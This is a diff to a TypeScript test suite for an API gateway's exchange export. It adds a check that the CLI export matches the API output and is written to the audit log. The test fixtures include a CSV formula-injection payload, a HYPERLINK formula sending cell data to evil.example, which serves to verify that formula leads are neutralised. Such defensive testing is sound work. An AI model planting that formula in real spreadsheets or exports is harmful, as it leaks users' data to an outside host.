@@ -1,9 +1,13 @@
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { randomBytes } from 'node:crypto';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { PassThrough } from 'node:stream';
 import { after, before, describe, it } from 'node:test';
 import { Ajv } from 'ajv';
 import OpenAI from 'openai';
 import { csvCell } from '../../src/admin/export-routes.ts';
+import { runCli } from '../../src/cli/main.ts';
 import { createApiKey } from '../../src/identity/key-service.ts';
 import { finishedExchange, startTestGateway, type TestGateway } from '../helpers/gateway.ts';
 
@@ -35,9 +39,10 @@ describe('exchange export (CSV, JSONL)', () => {
   let auditor: string;
   const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
   let formulaSubject = '';
+  const MASTER = randomBytes(32).toString('base64');
 
   before(async () => {
-    t = await startTestGateway({ extraYaml: 'auth:\n  key_cache_ttl_ms: 0\n  roles: { admin: [portcullis-admins], auditor: [auditors], user: [eng] }\n' });
+    t = await startTestGateway({ masterKey: MASTER, extraYaml: 'auth:\n  key_cache_ttl_ms: 0\n  roles: { admin: [portcullis-admins], auditor: [auditors], user: [eng] }\n' });
     auditor = (await createApiKey(t.gw.store.apiKeys, { name: 'audrey', kind: 'user', groups: ['auditors'], expiresAt: null, createdBy: 'test' }, Date.now())).secret;
     const formulaKey = (await createApiKey(t.gw.store.apiKeys, { name: FORMULA, kind: 'user', groups: [FORMULA, 'eng'], expiresAt: null, createdBy: 'test' }, Date.now())).secret;
     for (const [key, models] of [[t.userKey, ['gpt-4o', 'gpt-4o-mini', 'gpt-4o']], [formulaKey, ['gpt-4o-mini']]] as const) {
@@ -118,6 +123,32 @@ describe('exchange export (CSV, JSONL)', () => {
     assert.equal((await get(auditor, 'format=xlsx')).status, 400);
     assert.equal((await get(auditor, 'format=csv&since=yesterday')).status, 400);
     assert.equal((await get(auditor, 'format=csv&status=nope')).status, 400);
+  });
+
+  it('portcullis exchanges export writes the same lines from the store, chained as exchanges.export', async () => {
+    writeFileSync(join(t.dir, 'cli.yaml'), `store:\n  url: sqlite:${join(t.dir, 'portcullis.db')}\nmaster_key: env:PCL_TEST_MASTER\nproviders: [{ name: m, type: mock }]\nroutes: [{ model: "*", provider: m }]\n`);
+    const cli = async (...argv: string[]) => {
+      let out = '';
+      const stdout = new PassThrough().on('data', (c: Buffer) => (out += c.toString()));
+      const code = await runCli([...argv, '--config', join(t.dir, 'cli.yaml')], { stdin: new PassThrough(), stdout, stderr: new PassThrough(), env: { PCL_TEST_MASTER: MASTER }, cwd: t.dir });
+      return { code, out };
+    };
+    for (const q of ['format=csv', 'format=jsonl&model=gpt-4o-mini']) {
+      const api = await (await get(auditor, q)).text();
+      const args = q.includes('model') ? ['--format', 'jsonl', '--model', 'gpt-4o-mini'] : [];
+      const r = await cli('exchanges', 'export', ...args);
+      assert.equal(r.code, 0);
+      assert.equal(r.out, api, `the CLI's export equals the API's (${q})`);
+    }
+    const file = join(t.dir, 'out.csv');
+    assert.equal((await cli('exchanges', 'export', '--status', 'rejected', '--out', file)).code, 0);
+    assert.equal(readFileSync(file, 'utf8').trim().split('\r\n').length, 2);
+    assert.notEqual((await cli('exchanges', 'export', '--format', 'xlsx')).code, 0);
+    const repo = t.gw.evidence.audit.repo;
+    const heads = (await repo.heads()).filter((h) => h.writer.startsWith('cli-'));
+    const last = await repo.entry(heads[0]!.writer, heads[0]!.seq);
+    assert.equal(last?.payload.action, 'exchanges.export');
+    assert.equal(last?.payload.status, 'rejected');
   });
 
   it('neutralises every formula lead and quotes what RFC 4180 requires', () => {
